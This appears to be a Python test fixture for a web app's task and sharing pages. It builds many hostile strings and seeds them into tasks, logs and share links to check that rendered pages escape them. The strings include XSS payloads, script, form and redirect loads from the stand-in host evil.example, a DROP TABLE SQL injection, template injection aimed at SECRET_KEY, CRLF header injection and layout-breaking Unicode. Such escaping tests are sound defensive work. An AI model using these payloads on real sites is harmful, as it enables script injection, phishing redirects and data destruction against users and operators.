"""What somebody might write who wants a page to run it, to lead away or to fall apart; and rows that say it."""

from itertools import product

from extender.sharing.models import Share
from extender.states import State
from extender.tasks.models import Task
from extender.tasks.updates import record
from extender.team.models import Member
from tests.helpers import make_clip, make_task

# Out of what it may stand in.
OUT = ["", '">', "'>", "</textarea></title></script>", "--></style></noscript>", "\u202e&quot;"]
PIECES = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=//evil.example>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video src=//evil.example/x.mp4 onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>* { display: none }</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<a href=javascript:alert(1)>here</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<div hx-get=/logout/ hx-trigger=load></div>",
    "<div hx-on::load=alert(1) data-hx-get=//evil.example></div>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    " style=position:fixed;inset:0 ",
    "`${alert(1)}`",
    "{{ settings.SECRET_KEY }}{% load static %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x&#62;",
    "&#106;avascript:alert(1)",
    "javascript:alert(1)//https://evil.example/",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/x.png",
    "'; DROP TABLE tasks_task; --",
    "%s %(x)s {0} {x.__class__} %n",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "\x1b[2J\x07\x08",
    "W" * 400,
    "https://evil.example/" + "x" * 400,
    "\ufdfd" * 60,
    "Z\u0351\u036b\u0343\u036a\u0302" * 80,
    # Browsers break such a sequence nowhere, however wide it is.
    "\N{MAN}\N{ZERO WIDTH JOINER}" * 80,
    "\u202e\u2066\u2067 alert(1) \u05d0\u05d1\u05d2 \u0627\u0644\u0644",
]
WORDS = [f"{out}{piece}" for piece, out in product(PIECES, OUT)]


def plant(owner: Member, words: str) -> tuple[Task, Share]:
    """Tasks of `owner` about which people and APIFRAME say `words`: the last one, finished, and a link to it."""
    failed = make_task(owner, State.FAILED, prompt=words, reason=words, due_at=None)
    record(failed, words, "poll", words)
    make_task(owner, State.PROCESSING, prompt=words, reason=words, remote_id="", percentage=40, due_at=None)
    task = make_task(owner, prompt=words, parent=failed, due_at=None)
    for index in range(1, 5):
        # Settled: nobody is to copy it.
        make_clip(task, index, "refused", reason=words[:300], due_at=None)
    record(task, words, "webhook", words)
    return task, Share.objects.create(task=task, title=words[:120], show_prompt=True)
